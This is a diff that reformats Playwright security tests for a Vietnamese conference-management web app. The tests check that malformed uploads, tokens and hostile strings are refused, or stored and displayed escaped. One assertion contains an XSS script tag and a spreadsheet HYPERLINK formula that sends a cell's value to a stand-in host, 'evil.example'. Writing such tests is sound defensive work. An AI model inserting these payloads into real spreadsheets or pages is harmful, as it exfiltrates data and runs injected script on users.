@@ -21,7 +21,12 @@ test.describe("the bad-input corpus", () => {
     // As the admin: every request reaches the input checks, none stops at permissions.
     await signIn(page, "admin");
     for (const [method, url, contentType, body, expected] of read<[string, string, string, string, number[]][]>("requests.json")) {
-      const response = await page.request.fetch(url, { method, headers: contentType ? { "content-type": contentType } : {}, data: body || undefined, maxRedirects: 0 });
+      const response = await page.request.fetch(url, {
+        method,
+        headers: contentType ? { "content-type": contentType } : {},
+        data: body || undefined,
+        maxRedirects: 0,
+      });
       const label = `${method} ${url.slice(0, 60)} ${body.slice(0, 40)}`;
       expect(expected, label).toContain(response.status());
       if (response.status() >= 400 && response.headers()["content-type"]?.includes("json")) expect((await response.json()).message, label).toBeTruthy();
@@ -35,7 +40,9 @@ test.describe("the bad-input corpus", () => {
     const tokens = read<string[]>("tokens.json");
     let logged = 0;
     for (const [i, token] of tokens.entries()) {
-      const response = await page.request.post("/api/checkin", { data: { token, siteId: site.id, deviceId: "may-hong", nonce: `hong-${i}-${Date.now()}`, scannedAt: Date.now(), method: "hardware" } });
+      const response = await page.request.post("/api/checkin", {
+        data: { token, siteId: site.id, deviceId: "may-hong", nonce: `hong-${i}-${Date.now()}`, scannedAt: Date.now(), method: "hardware" },
+      });
       if (token.length > 400) {
         // Too long for the schema (400), or for the body limit (413).
         expect([400, 413], `${token.length} characters`).toContain(response.status());
@@ -45,19 +52,37 @@ test.describe("the bad-input corpus", () => {
       expect(["unknown", "bad_signature"]).toContain((await response.json()).verdict);
       logged++;
     }
-    expect(e2eDb().select({ n: count() }).from(scanLog).where(and(eq(scanLog.deviceId, "may-hong"), inArray(scanLog.verdict, ["unknown", "bad_signature"]))).get()!.n - before).toBe(logged);
+    expect(
+      e2eDb()
+        .select({ n: count() })
+        .from(scanLog)
+        .where(and(eq(scanLog.deviceId, "may-hong"), inArray(scanLog.verdict, ["unknown", "bad_signature"])))
+        .get()!.n - before,
+    ).toBe(logged);
   });
 
-  test("files: mis-encoded, truncated, fake, empty, binary and huge are refused with a message and nothing saved; hostile text is stored as text and shown escaped and neutralised", async ({ page }) => {
+  test("files: mis-encoded, truncated, fake, empty, binary and huge are refused with a message and nothing saved; hostile text is stored as text and shown escaped and neutralised", async ({
+    page,
+  }) => {
     test.setTimeout(60_000); // thirteen uploads, then five pages and two exports: ~30 s on a busy 2-core machine
     await signIn(page, "admin");
     const db = e2eDb();
     const code = `bi${process.pid}${Date.now() % 100000}`;
     const province = db.select().from(units).where(eq(units.code, "51")).get()!;
-    const unit = db.insert(units).values({ code, name: `Đơn vị dữ liệu xấu ${code}`, kind: testUnitKind(), placeName: "Thử", parentId: province.id, sortOrder: 997 }).returning().get();
+    const unit = db
+      .insert(units)
+      .values({ code, name: `Đơn vị dữ liệu xấu ${code}`, kind: testUnitKind(), placeName: "Thử", parentId: province.id, sortOrder: 997 })
+      .returning()
+      .get();
     const peopleIn = () => db.select({ n: count() }).from(people).where(eq(people.unitId, unit.id)).get()!.n;
     const expectations = read<Record<string, { expect: "refused" | "accepted"; rows?: number; message?: string }>>("files.json");
-    const upload = (name: string, buffer: Buffer) => page.request.post("/api/people/import", { multipart: { file: { name, mimeType: name.endsWith(".xlsx") ? "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" : "text/csv", buffer }, unitId: String(unit.id) } });
+    const upload = (name: string, buffer: Buffer) =>
+      page.request.post("/api/people/import", {
+        multipart: {
+          file: { name, mimeType: name.endsWith(".xlsx") ? "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" : "text/csv", buffer },
+          unitId: String(unit.id),
+        },
+      });
 
     for (const [name, want] of Object.entries(expectations)) {
       const response = await upload(name, fs.readFileSync(path.join(CORPUS, "files", name)));
@@ -77,7 +102,9 @@ test.describe("the bad-input corpus", () => {
     expect([400, 413]).toContain(huge.status());
     expect((await huge.json()).message).toBeTruthy();
     // A refused file keeps no batch either: only the accepted files' batches exist.
-    expect(db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id)).get()!.n).toBe(Object.values(expectations).filter((w) => w.expect === "accepted").length);
+    expect(db.select({ n: count() }).from(importBatches).where(eq(importBatches.unitId, unit.id)).get()!.n).toBe(
+      Object.values(expectations).filter((w) => w.expect === "accepted").length,
+    );
     const stored = db.select().from(people).where(eq(people.unitId, unit.id)).all();
     expect(stored).toHaveLength(Object.values(expectations).reduce((n, w) => n + (w.expect === "accepted" ? (w.rows ?? 0) : 0), 0));
     expect(stored.map((p) => p.fullName)).toEqual(expect.arrayContaining(["<script>alert(1)</script>", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")']));
@@ -87,18 +114,40 @@ test.describe("the bad-input corpus", () => {
     const strings = read<string[]>("strings.json");
     const body = db.insert(bodies).values({ unitId: unit.id, kind: "propaganda", name: strings[0], symbol: "XSS" }).returning().get();
     const campaign = db.select().from(campaigns).get()!;
-    const conference = db.insert(conferences).values({ campaignId: campaign.id, unitId: unit.id, bodyId: body.id, title: `Hội nghị ${strings[1]}`, startsAt: new Date(Date.now() + 86_400_000), endsAt: new Date(Date.now() + 90_000_000), status: "scheduled", agenda: strings[2] }).returning().get();
+    const conference = db
+      .insert(conferences)
+      .values({
+        campaignId: campaign.id,
+        unitId: unit.id,
+        bodyId: body.id,
+        title: `Hội nghị ${strings[1]}`,
+        startsAt: new Date(Date.now() + 86_400_000),
+        endsAt: new Date(Date.now() + 90_000_000),
+        status: "scheduled",
+        agenda: strings[2],
+      })
+      .returning()
+      .get();
     const site = db.insert(sites).values({ conferenceId: conference.id, unitId: unit.id, isMain: true, venue: strings[3] }).returning().get();
-    for (const text of strings) db.insert(people).values({ fullName: text, searchName: text.toLowerCase(), position: text, workplace: text, unitId: unit.id }).run();
+    for (const text of strings)
+      db.insert(people).values({ fullName: text, searchName: text.toLowerCase(), position: text, workplace: text, unitId: unit.id }).run();
     for (const p of db.select().from(people).where(eq(people.unitId, unit.id)).all()) {
-      db.insert(invitations).values({ conferenceId: conference.id, personId: p.id, bodyId: body.id, siteId: site.id, status: "issued", letterNumber: "1-GM/XSS" }).run();
+      db.insert(invitations)
+        .values({ conferenceId: conference.id, personId: p.id, bodyId: body.id, siteId: site.id, status: "issued", letterNumber: "1-GM/XSS" })
+        .run();
     }
     let dialogs = 0;
     page.on("dialog", async (d) => {
       dialogs++;
       await d.dismiss();
     });
-    for (const url of [`/conferences/${conference.id}`, `/conferences/${conference.id}/attendance`, `/conferences/${conference.id}/invitations`, `/conferences/${conference.id}/letters`, `/people?unit=${unit.id}`]) {
+    for (const url of [
+      `/conferences/${conference.id}`,
+      `/conferences/${conference.id}/attendance`,
+      `/conferences/${conference.id}/invitations`,
+      `/conferences/${conference.id}/letters`,
+      `/people?unit=${unit.id}`,
+    ]) {
       const response = await page.goto(url);
       expect(response?.status(), url).toBe(200);
       await page.waitForLoadState("networkidle");
